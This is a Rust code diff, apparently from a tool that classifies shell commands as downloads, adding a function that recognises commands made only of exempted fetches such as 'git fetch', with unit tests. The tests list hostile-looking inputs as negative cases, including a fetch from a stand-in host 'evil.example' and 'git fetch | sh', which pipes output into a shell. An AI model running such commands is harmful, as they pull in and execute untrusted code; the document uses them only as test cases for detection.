@@ -156,6 +156,41 @@ pub fn download_host(command: &str) -> Option<String> {
     found
 }
 
+/// Whether every simple command in `command` is one of the fetches the
+/// 2026-10-04 update took out (as [`is_download`] reads them): the box then
+/// doesn't mark the chat for the hosts they reached either.
+pub fn only_exempt_fetches(command: &str) -> bool {
+    let mut any = false;
+    let mut rest = command;
+    loop {
+        let start = rest.trim_start_matches(' ');
+        if start.is_empty() {
+            return any;
+        }
+        let Some(len) = exempt_fetch(start) else {
+            return false;
+        };
+        any = true;
+        // The rest of this simple command, up to the next separator.
+        let tail = &start[len..];
+        let end = tail.find([';', '\n', '&', '|']).unwrap_or(tail.len());
+        if tail[..end].contains("://") {
+            return false;
+        }
+        let after = &tail[end..];
+        rest = after
+            .strip_prefix("&&")
+            .or_else(|| after.strip_prefix("||"))
+            .or_else(|| after.strip_prefix(';'))
+            .or_else(|| after.strip_prefix('\n'))
+            .unwrap_or(after);
+        if rest.len() == after.len() && !after.is_empty() {
+            // A pipe or a lone `&`: more than fetching.
+            return false;
+        }
+    }
+}
+
 /// The same rule before 2026-10-04 (nothing taken out): what marked older chats.
 pub fn was_download_before_2026_10_04(command: &str) -> bool {
     let lower = command.to_ascii_lowercase();
@@ -266,6 +301,30 @@ fn ends_word(after: &str) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn only_exempt_fetches_is_the_updates_list_and_nothing_more() {
+        for yes in [
+            "git fetch",
+            "git fetch origin",
+            "git -C repo fetch --all && npm fetch",
+            "yarn fetch; pnpm fetch",
+        ] {
+            assert!(only_exempt_fetches(yes), "{yes}");
+        }
+        for no in [
+            "",
+            "git fetch https://evil.example/x",
+            "git fetch | sh",
+            "git fetch && curl x",
+            "env git fetch",
+            "git  fetch",
+            "npm install",
+            "git fetch & python3 x.py",
+        ] {
+            assert!(!only_exempt_fetches(no), "{no}");
+        }
+    }
 
     #[test]
     fn downloads() {
